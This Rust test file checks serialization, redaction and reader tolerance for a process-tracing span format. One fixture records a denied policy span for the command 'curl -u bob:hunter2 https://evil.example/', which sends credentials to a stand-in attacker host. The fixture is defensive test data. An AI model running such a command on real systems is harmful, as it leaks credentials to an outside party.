//! Round trips of every kind and the reader's tolerance.

use std::collections::{BTreeMap, BTreeSet};
use std::io::{self, BufRead, Cursor, Read};

use serde_json::{json, Value};

use crate::*;

const WORLD: &str = "w-4f1c";

fn t(nanos: i64) -> Timestamp {
    Timestamp::from_unix_nanos(1_719_835_200_000_000_000 + nanos)
}

/// The id of the `counter`th span, started at `at`, made the way a writer
/// that cannot afford a system call per span makes its ids. Fixed rather
/// than random so that `docs/trace-spans.md` can show these very spans.
fn id(at: Timestamp, counter: u8) -> SpanId {
    SpanId::v7_from_parts(
        at,
        [0, counter, 0xb8, 0x71, 0x19, 0x41, 0x2e, 0xa9, 0xc9, 0xf6],
    )
}

/// One span of each kind, with every field the kind has set: the examples
/// of `docs/trace-spans.md` (`documented_examples_are_what_the_builders_write`).
fn one_of_each() -> Vec<Span> {
    let world = Span::world(
        WORLD,
        Source::Runtime,
        t(0),
        WorldDetail {
            duration_ns: Some(2_500_000_000),
            fs: Some(FsTotals {
                added: 3,
                changed: 1,
                deleted: 2,
            }),
            spans: BTreeMap::from([("exec".into(), 2), ("file".into(), 40)]),
            rejected: BTreeMap::from([("forged_pid".into(), 1)]),
            lost: 7,
        },
    )
    .id(id(t(0), 1))
    .pid(4100)
    .world_pid(1)
    .end(t(2_500_000_000))
    .exit(ExitStatus::Code(0))
    .build();
    let exec = Span::exec(WORLD, Source::Preload, t(1_000))
        .id(id(t(1_000), 2))
        .parent(world.span_id)
        .pid(4242)
        .world_pid(7)
        .ppid(4100)
        .world_ppid(1)
        .exe("/usr/bin/curl")
        .argv([
            b"curl".to_vec(),
            b"-H".to_vec(),
            b"Authorization: Bearer abc".to_vec(),
            b"https://example.com/caf\xe9".to_vec(),
        ])
        .cwd(b"/work/\xff".to_vec())
        .env(["PATH=/usr/bin:/bin", "GITHUB_TOKEN=ghp_x", "LANG=C.UTF-8"])
        .end(t(900_000_000))
        .exit(ExitStatus::Signal(15))
        .build();
    let file = Span::file(
        WORLD,
        Source::Preload,
        t(2_000),
        FileDetail::open(FileOp::Openat, "/etc/hosts", 0o2_000_000, None),
    )
    .id(id(t(2_000), 3))
    .parent(exec.span_id)
    .world_pid(7)
    .returned(3)
    .end(t(2_500))
    .build();
    let rename = Span::file(
        WORLD,
        Source::Kernel,
        t(3_000),
        FileDetail::rename(FileOp::Rename, "/tmp/a", b"/tmp/\xfeb".to_vec()),
    )
    .id(id(t(3_000), 4))
    .pid(4243)
    .failed(-1, Errno(18))
    .build();
    let net = Span::net(
        WORLD,
        Source::Preload,
        t(4_000),
        NetDetail::ip(
            NetOp::Connect,
            Family::Inet6,
            Transport::Tcp,
            "2606:2800:220:1::1",
            443,
        ),
    )
    .id(id(t(4_000), 5))
    .parent(exec.span_id)
    .world_pid(7)
    .failed(-1, Errno(111))
    .end(t(5_000))
    .build();
    let unix = Span::net(
        WORLD,
        Source::Monitor,
        t(4_500),
        NetDetail {
            address: Some(b"\0abstract\xff".to_vec()),
            ..NetDetail::new(NetOp::Bind, Family::Unix)
        },
    )
    .id(id(t(4_500), 6))
    .returned(0)
    .build();
    let dns = Span::dns(
        WORLD,
        Source::Preload,
        t(3_500),
        DnsDetail {
            query: b"example.com".to_vec(),
            answers: vec!["93.184.216.34".into(), "2606:2800:220:1::1".into()],
        },
    )
    .id(id(t(3_500), 7))
    .parent(exec.span_id)
    .returned(0)
    .end(t(3_900))
    .build();
    let policy = Span::policy(
        WORLD,
        Source::Runtime,
        t(3_950),
        PolicyDetail {
            rule: "net.allow[0]".into(),
            decision: Decision::Deny,
            subject: b"curl -u bob:hunter2 https://evil.example/".to_vec(),
            reason: Some("host not in allow-list".into()),
        },
    )
    .id(id(t(3_950), 8))
    .parent(exec.span_id)
    .build();
    vec![world, exec, file, rename, net, unix, dns, policy]
}

fn parse(line: &str) -> Result<Span, SpanError> {
    Span::from_line(line.as_bytes())
}

fn line_of(value: Value) -> String {
    serde_json::to_string(&value).unwrap()
}

/// A valid exec span as JSON, to be bent by the tests.
fn base() -> Value {
    json!({
        "v": "1.0",
        "span_id": SpanId::new().to_string(),
        "world_id": WORLD,
        "kind": "exec",
        "source": "preload",
        "start": "2024-07-01T12:00:00.000000001Z",
        "world_pid": 7,
        "argv": ["true"],
    })
}

fn collect(input: &[u8]) -> (Vec<Span>, Vec<ReadError>, ReadStats) {
    let mut reader = read_spans(Cursor::new(input.to_vec()));
    let (mut spans, mut errors) = (Vec::new(), Vec::new());
    for item in reader.by_ref() {
        match item {
            Ok(span) => spans.push(span),
            Err(e) => errors.push(e),
        }
    }
    (spans, errors, reader.stats())
}

// ---- round trips ----------------------------------------------------------

#[test]
fn every_kind_round_trips_through_a_line() {
    for span in one_of_each() {
        let line = span.to_line().unwrap();
        assert!(!line.contains('\n'), "{line}");
        assert!(line.starts_with(r#"{"v":"1.1","span_id":""#), "{line}");
        let back = parse(&line).unwrap_or_else(|e| panic!("{e}: {line}"));
        assert_eq!(back, span, "{line}");
        assert_eq!(back.to_line().unwrap(), line);
    }
}

#[test]
fn every_kind_round_trips_through_the_reader() {
    let spans = one_of_each();
    let mut file = Vec::new();
    for span in &spans {
        file.extend_from_slice(span.to_line().unwrap().as_bytes());
        file.push(b'\n');
    }
    let (read, errors, stats) = collect(&file);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(read, spans);
    assert_eq!(
        stats,
        ReadStats {
            lines: spans.len() as u64,
            spans: spans.len() as u64,
            ..ReadStats::default()
        }
    );
}

#[test]
fn kinds_and_fields_as_json() {
    let spans = one_of_each();
    let json: Vec<Value> = spans
        .iter()
        .map(|s| serde_json::from_str(&s.to_line().unwrap()).unwrap())
        .collect();
    let kinds: Vec<&str> = json.iter().map(|j| j["kind"].as_str().unwrap()).collect();
    assert_eq!(
        kinds,
        ["world", "exec", "file", "file", "net", "net", "dns", "policy"]
    );

    let world = &json[0];
    assert_eq!(world["result"], json!({"code": 0}));
    assert_eq!(
        world["detail"]["fs"],
        json!({"added": 3, "changed": 1, "deleted": 2})
    );
    assert_eq!(world["end"], "2024-07-01T12:00:02.500000000Z");

    let exec = &json[1];
    assert_eq!(exec["parent_span_id"], world["span_id"]);
    assert_eq!(exec["result"], json!({"signal": 15}));
    assert_eq!(exec["argv"][2], "Authorization: Bearer <redacted>");
    assert_eq!(exec["argv"][3], "https://example.com/caf\\xe9");
    assert_eq!(exec["argv_bytes"][3], "aHR0cHM6Ly9leGFtcGxlLmNvbS9jYWbp");
    assert!(exec["argv_bytes"][0].is_null());
    assert_eq!(exec["cwd"], "/work/\\xff");
    assert!(exec["cwd_bytes"].is_string());
    assert_eq!(
        exec["env"],
        json!([
            "PATH=/usr/bin:/bin",
            "GITHUB_TOKEN=<redacted>",
            "LANG=C.UTF-8"
        ])
    );
    assert!(exec.get("env_bytes").is_none() && exec.get("exe_bytes").is_none());
    assert!(exec.get("detail").is_none());

    assert_eq!(json[2]["result"], json!({"ret": 3}));
    assert_eq!(json[2]["detail"]["flags"], 0o2_000_000);
    assert_eq!(
        json[3]["result"],
        json!({"ret": -1, "errno": {"number": 18, "name": "EXDEV"}})
    );
    assert_eq!(json[3]["detail"]["new_path"], "/tmp/\\xfeb");
    assert_eq!(json[4]["detail"]["port"], 443);
    assert_eq!(json[5]["detail"]["address"], "\u{0}abstract\\xff");
    assert_eq!(json[6]["detail"]["answers"][0], "93.184.216.34");
    assert_eq!(
        json[7]["detail"]["subject"],
        "curl -u bob:hunter2 https://evil.example/".replace("hunter2", "<redacted>")
    );
    assert_eq!(json[7]["detail"]["decision"], "deny");
}

#[test]
fn exec_without_argv_and_open_spans() {
    // What the kernel source knows of a process that already exited.
    let span = Span::exec(WORLD, Source::Kernel, t(0)).pid(99).build();
    let line = span.to_line().unwrap();
    assert!(
        !line.contains("\"end\"") && !line.contains("\"result\""),
        "{line}"
    );
    assert_eq!(parse(&line).unwrap(), span);
    assert_eq!(span.duration(), None);
}

#[test]
fn a_failed_exec_records_errno() {
    let span = Span::exec(WORLD, Source::Preload, t(0))
        .exe("/nope")
        .argv(["nope"])
        .failed(-1, Errno(2))
        .build();
    let back = parse(&span.to_line().unwrap()).unwrap();
    assert_eq!(
        back.result,
        Some(Outcome::Returned {
            ret: -1,
            errno: Some(Errno(2))
        })
    );
}

#[test]
fn redact_applies_to_a_span_read_from_a_world() {
    let mut value = base();
    value["argv"] = json!(["mysql", "-pS3cret", "db"]);
    value["env"] = json!(["PATH=/bin", "AWS_SECRET_ACCESS_KEY=x", "EDITOR=vi"]);
    let mut span = parse(&line_of(value)).unwrap();
    span.redact(EnvAllowList::standard());
    let argv: Vec<&[u8]> = span
        .process
        .argv
        .as_ref()
        .unwrap()
        .iter()
        .map(Vec::as_slice)
        .collect();
    assert_eq!(argv, [&b"mysql"[..], b"-p<redacted>", b"db"]);
    let env: Vec<&[u8]> = span
        .process
        .env
        .as_ref()
        .unwrap()
        .iter()
        .map(Vec::as_slice)
        .collect();
    assert_eq!(
        env,
        [
            &b"PATH=/bin"[..],
            b"AWS_SECRET_ACCESS_KEY=<redacted>",
            b"EDITOR=<redacted>"
        ]
    );
    let again = span.clone();
    span.redact(EnvAllowList::standard());
    assert_eq!(span, again);
}

// ---- versions and unknown things --------------------------------------------

#[test]
fn newer_minor_version_with_unknown_fields_is_read_and_kept() {
    let mut value = base();
    value["v"] = json!("1.7");
    value["cgroup"] = json!("/substrate/w-4f1c");
    value["gpu"] = json!({"device": 0});
    value["result"] = json!({"code": 0, "core_dumped": false});
    let span = parse(&line_of(value)).unwrap();
    assert_eq!(span.kind(), SpanKind::Exec);
    assert_eq!(span.extra.len(), 2);
    assert_eq!(span.extra["cgroup"], json!("/substrate/w-4f1c"));
    // Written again, the unknown fields survive (the version is this crate's).
    let again: Value = serde_json::from_str(&span.to_line().unwrap()).unwrap();
    assert_eq!(again["v"], crate::SCHEMA_VERSION);
    assert_eq!(again["gpu"], json!({"device": 0}));
}

#[test]
fn extra_never_overrides_a_known_field() {
    let mut span = one_of_each().remove(2);
    span.extra.insert("kind".into(), json!("dns"));
    span.extra.insert("note".into(), json!(1));
    let line = span.to_line().unwrap();
    assert_eq!(line.matches("\"kind\"").count(), 1, "{line}");
    assert_eq!(parse(&line).unwrap().kind(), SpanKind::File);
}

#[test]
fn unknown_kind_and_values_are_read() {
    let mut value = base();
    value["v"] = json!("1.2");
    value["kind"] = json!("gpu");
    value["source"] = json!("ebpf");
    value["detail"] = json!({"device": 0, "op": "alloc"});
    let line = line_of(value);
    let span = parse(&line).unwrap();
    assert_eq!(span.kind(), SpanKind::Other("gpu".into()));
    assert_eq!(span.source, Source::Other("ebpf".into()));
    assert_eq!(
        span.detail,
        Detail::Other {
            kind: "gpu".into(),
            detail: Some(json!({"device": 0, "op": "alloc"}))
        }
    );
    let again: Value = serde_json::from_str(&span.to_line().unwrap()).unwrap();
    assert_eq!(again["kind"], "gpu");
    assert_eq!(again["detail"]["op"], "alloc");

    let mut value = base();
    value["kind"] = json!("file");
    value["detail"] = json!({"op": "statx", "path": "/x", "new_field": 1});
    let span = parse(&line_of(value)).unwrap();
    let Detail::File(file) = span.detail else {
        panic!("not a file span")
    };
    assert_eq!(file.op, FileOp::Other("statx".into()));
}

#[test]
fn newer_major_version_is_a_clear_error() {
    let mut value = base();
    value["v"] = json!("2.0");
    let err = parse(&line_of(value)).unwrap_err();
    assert!(matches!(&err, SpanError::UnsupportedVersion { found } if found == "2.0"));
    let msg = err.to_string();
    assert!(msg.contains("\"2.0\"") && msg.contains("1.x"), "{msg}");

    // Even when the rest of a 2.x line no longer looks like a 1.x span.
    let err = parse(r#"{"v":"2.1","id":7,"what":"changed"}"#).unwrap_err();
    assert!(matches!(err, SpanError::UnsupportedVersion { .. }), "{err}");
    assert!(matches!(
        parse(r#"{"v":"x.y"}"#),
        Err(SpanError::Field { field: "v", .. })
    ));
}

#[test]
fn invalid_spans_name_the_field() {
    let cases: [(&str, Value, &str); 6] = [
        ("span_id", json!("nope"), "span_id"),
        ("start", json!("yesterday"), "start"),
        ("world_id", json!(""), "world_id"),
        ("v", json!("one"), "v"),
        ("result", json!({"ret": 0, "code": 1}), "result"),
        ("parent_span_id", json!("x"), "parent_span_id"),
    ];
    for (key, bad, field) in cases {
        let mut value = base();
        value[key] = bad;
        match parse(&line_of(value)) {
            Err(SpanError::Field { field: f, .. }) => assert_eq!(f, field),
            other => panic!("{key}: {other:?}"),
        }
    }
    let mut value = base();
    value["kind"] = json!("file");
    assert!(matches!(
        parse(&line_of(value)),
        Err(SpanError::Field {
            field: "detail",
            ..
        })
    ));
    let mut value = base();
    value.as_object_mut().unwrap().remove("world_id");
    assert!(matches!(parse(&line_of(value)), Err(SpanError::Json(_))));
}

// ---- the reader ---------------------------------------------------------------

#[test]
fn garbage_lines_are_skipped_and_counted() {
    let good = line_of(base());
    let input = format!(
        "{good}\nnot json\n\n{{\"v\":\"1.0\"}}\n[1,2]\n{good}\r\n{}\n{good}\n",
        r#"{"v":"3.0","anything":true}"#
    );
    let (spans, errors, stats) = collect(input.as_bytes());
    assert_eq!(spans.len(), 3);
    let lines: Vec<u64> = errors
        .iter()
        .map(|e| match e {
            ReadError::Line { line, .. } => *line,
            other => panic!("{other}"),
        })
        .collect();
    assert_eq!(lines, [2, 4, 5, 7]);
    assert!(errors.iter().all(|e| !e.is_fatal()));
    assert_eq!(
        stats,
        ReadStats {
            lines: 8,
            spans: 3,
            skipped: 4,
            unsupported_version: 1,
            unfinished: 0,
        }
    );
    assert!(errors[3]
        .to_string()
        .starts_with("line 7: span schema version \"3.0\""));
}

#[test]
fn unfinished_last_line_is_never_a_span() {
    let good = line_of(base());
    // A crash after the whole JSON but before the newline, and in the middle.
    for tail in [good.as_str(), &good[..good.len() / 2]] {
        let input = format!("{good}\n{tail}");
        let (spans, errors, stats) = collect(input.as_bytes());
        assert_eq!(spans.len(), 1);
        assert!(
            matches!(errors[..], [ReadError::Unfinished { line: 2, len }] if len == tail.len()),
            "{errors:?}"
        );
        assert_eq!(stats.unfinished, 1);
        assert_eq!(stats.skipped, 0);
    }
}

#[test]
fn oversized_lines_are_skipped_without_being_held() {
    let good = line_of(base());
    let mut big = base();
    big["argv"] = json!(["x".repeat(MAX_LINE_BYTES)]);
    let big = line_of(big);
    let input = format!("{good}\n{big}\n{good}\n");
    let (spans, errors, stats) = collect(input.as_bytes());
    assert_eq!(spans.len(), 2);
    assert!(
        matches!(
            &errors[..],
            [ReadError::Line {
                line: 2,
                source: SpanError::TooLarge { len, max: MAX_LINE_BYTES }
            }] if *len == big.len()
        ),
        "{errors:?}"
    );
    assert_eq!(stats.skipped, 1);
}

#[test]
fn writing_an_oversized_span_is_an_error() {
    let span = Span::exec(WORLD, Source::Preload, t(0))
        .argv(["x".repeat(MAX_LINE_BYTES)])
        .build();
    assert!(matches!(
        span.to_line(),
        Err(SpanError::TooLarge {
            max: MAX_LINE_BYTES,
            ..
        })
    ));
    assert!(matches!(
        Span::from_line("x".repeat(MAX_LINE_BYTES + 1).as_bytes()),
        Err(SpanError::TooLarge { .. })
    ));
}

/// A reader that hands out its bytes in small pieces, then fails.
struct Flaky {
    data: Cursor<Vec<u8>>,
    interrupted: bool,
}

impl Read for Flaky {
    fn read(&mut self, buf: &mut [u8]) -> io::Result<usize> {
        if !self.interrupted {
            self.interrupted = true;
            return Err(io::ErrorKind::Interrupted.into());
        }
        let small = buf.len().min(7);
        let n = self.data.read(&mut buf[..small])?;
        if n == 0 {
            return Err(io::Error::other("disk on fire"));
        }
        Ok(n)
    }
}

#[test]
fn io_errors_stop_the_reader_and_small_reads_do_not_matter() {
    let good = line_of(base());
    let data = format!("{good}\n{good}\n").into_bytes();
    let reader = io::BufReader::with_capacity(
        16,
        Flaky {
            data: Cursor::new(data),
            interrupted: false,
        },
    );
    let mut spans = read_spans(reader);
    assert!(spans.next().unwrap().is_ok());
    assert!(spans.next().unwrap().is_ok());
    let err = spans.next().unwrap().unwrap_err();
    assert!(err.is_fatal(), "{err}");
    assert!(spans.next().is_none());
    assert_eq!(spans.stats().spans, 2);
}

#[test]
fn reader_works_on_any_bufread() {
    fn count(r: impl BufRead) -> usize {
        read_spans(r).filter(Result::is_ok).count()
    }
    let good = line_of(base());
    assert_eq!(count(format!("{good}\n").as_bytes()), 1);
    assert_eq!(count(&b""[..]), 0);
}

#[test]
fn serde_embeds_spans() {
    let spans = one_of_each();
    let text = serde_json::to_string(&spans).unwrap();
    let back: Vec<Span> = serde_json::from_str(&text).unwrap();
    assert_eq!(back, spans);
}

// ---- the documentation ---------------------------------------------------------

/// The non-blank lines inside the ` ```json ` blocks of a markdown text.
fn json_block_lines(markdown: &str) -> Vec<&str> {
    enum At {
        Text,
        Json,
        OtherBlock,
    }
    let mut at = At::Text;
    let mut lines = Vec::new();
    for line in markdown.lines() {
        if let Some(info) = line.trim_start().strip_prefix("```") {
            at = match at {
                At::Text if info.trim() == "json" => At::Json,
                At::Text => At::OtherBlock,
                At::Json | At::OtherBlock => At::Text,
            };
        } else if matches!(at, At::Json) && !line.trim().is_empty() {
            lines.push(line);
        }
    }
    lines
}

/// The docs' example spans are read by the crate's reader and must be,
/// line for line, what the builders write for the same inputs: the docs
/// cannot drift from the code. When this fails, the message shows the
/// lines the docs should hold.
#[test]
fn documented_examples_are_what_the_builders_write() {
    let path = concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/trace-spans.md");
    let docs = std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{path}: {e}"));
    let documented = json_block_lines(&docs);
    let built = one_of_each();
    let written: Vec<String> = built.iter().map(|s| s.to_line().unwrap()).collect();
    let fix = format!(
        "the examples in {path} should be:\n```json\n{}\n```",
        written.join("\n")
    );

    let trace = documented
        .iter()
        .map(|l| format!("{l}\n"))
        .collect::<String>();
    let (read, errors, stats) = collect(trace.as_bytes());
    assert!(errors.is_empty(), "{errors:?}\n{fix}");
    assert_eq!(stats.spans, documented.len() as u64);
    assert_eq!(read.len(), built.len(), "{fix}");
    for (n, (doc, span)) in read.iter().zip(&built).enumerate() {
        assert_eq!(
            doc,
            span,
            "example {} ({}) differs\n{fix}",
            n + 1,
            span.kind()
        );
    }
    // The same spans could still be written differently (field order,
    // escapes, the version): the text must match too.
    assert_eq!(documented, written, "{fix}");

    // "One line per kind".
    let kinds: BTreeSet<SpanKind> = built.iter().map(Span::kind).collect();
    let missing: Vec<&SpanKind> = SpanKind::KNOWN
        .iter()
        .filter(|k| !kinds.contains(k))
        .collect();
    assert!(missing.is_empty(), "no example of {missing:?}");
}

#[test]
fn json_blocks_are_found_and_other_blocks_skipped() {
    let markdown = "text {\"no\":1}\n```rust\nlet x = 1;\n```\n```json\n{\"a\":1}\n\n{\"b\":2}\n```\n```\n{\"c\":3}\n```\n";
    assert_eq!(json_block_lines(markdown), [r#"{"a":1}"#, r#"{"b":2}"#]);
}
